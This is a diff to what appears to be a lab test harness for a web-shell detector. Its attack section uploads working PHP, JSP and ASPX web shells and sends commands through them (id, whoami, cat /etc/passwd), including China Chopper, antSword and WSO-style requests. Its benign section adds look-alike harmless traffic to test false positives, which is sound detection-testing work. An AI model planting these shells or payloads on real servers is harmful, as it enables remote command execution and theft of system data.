@@ -24,6 +24,8 @@ def attacks(lab):
     begin(lab)
     u = f"http://{web.ip}"
     upload(intruder, f"{u}/upload.php", "a.php", "<?php @eval($_POST['x']); ?>")
+    upload(intruder, f"{u}/upload.php", "b1.php", "<?php system($_GET[0]); ?>")
+    upload(intruder, f"{u}/upload.php", "b2.php", "<?php passthru($_REQUEST['c']); ?>")
     upload(intruder, f"{u}/upload.php", "a.jsp", '<%@page import="java.io.*"%><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>')
     upload(intruder, f"{u}/upload", "a.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>')
     upload(intruder, f"{u}/upload.php", "a.gif", b"GIF89a\x01\x00\x01\x00<?php phpinfo(); ?>", "image/gif")
@@ -32,6 +34,7 @@ def attacks(lab):
     upload(intruder, f"{u}/upload.php", "holiday.php.jpg", "<?php phpinfo(); ?>", "image/jpeg")
     curl(intruder, f"{u}/uploads/a.php?cmd=id")
     curl(intruder, f"{u}/uploads/a.php?cmd=cat%20/etc/passwd")
+    curl(intruder, f"{u}/uploads/b1.php?0=whoami")
     curl(intruder, f"{u}/uploads/chop.php", "x=%40eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw%3D%3D", headers=FORM)
     curl(intruder, f"{u}/uploads/a.php", 'x=%40ini_set(%22display_errors%22%2C%20%220%22)%3B%40set_time_limit(0)%3Becho%201%3B', headers=FORM, agent="antSword/v2.1")
     curl(intruder, f"{u}/uploads/wso.php", "a=Console&c=%2Fvar%2Fwww%2F&p1=id&p2=&p3=&charset=Windows-1251", headers=FORM)
@@ -51,10 +54,11 @@ def benign(lab):
     u = f"http://{web.ip}"
     upload(user, f"{u}/upload.php", "holiday.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", "image/gif")
     upload(user, f"{u}/upload.php", "plugin.php", "<?php function page() { return htmlspecialchars($_POST['title']); } $sum = md5('e45e'); ?>", "text/x-php")
+    upload(user, f"{u}/upload.php", "page2.php", "<?php $n = intval($_GET['n']); $q = trim($_REQUEST['q']); system_message($n); ?>", "text/x-php")
     upload(user, f"{u}/upload.php", "holiday.php.txt", "notes about <?php tags")
     upload(user, f"{u}/upload", "page.jsp", '<%@page import="java.util.*"%><%= request.getParameter("name") %>')
     upload(user, f"{u}/upload", "page.aspx", '<%@ Page Language="C#"%><%= Eval("Name") %> <%= Request["id"] %>')
-    for path in ("/id", "/passwd", "/c99", "/list?cmd=next&c=12", "/api?exec=nightly&command=identify", "/shop?0=id7", "/?feature=shelling"):
+    for path in ("/id", "/passwd", "/c99", "/list?cmd=next&c=12", "/api?exec=nightly&command=identify", "/shop?0=id7", "/search?q=whoamis", "/docs/whoami", "/?feature=shelling"):
         curl(user, u + path)
     curl(user, f"{u}/api?feature=shell")
     curl(user, f"{u}/form", "a=Consoles&c=12&p1=x", headers=FORM)
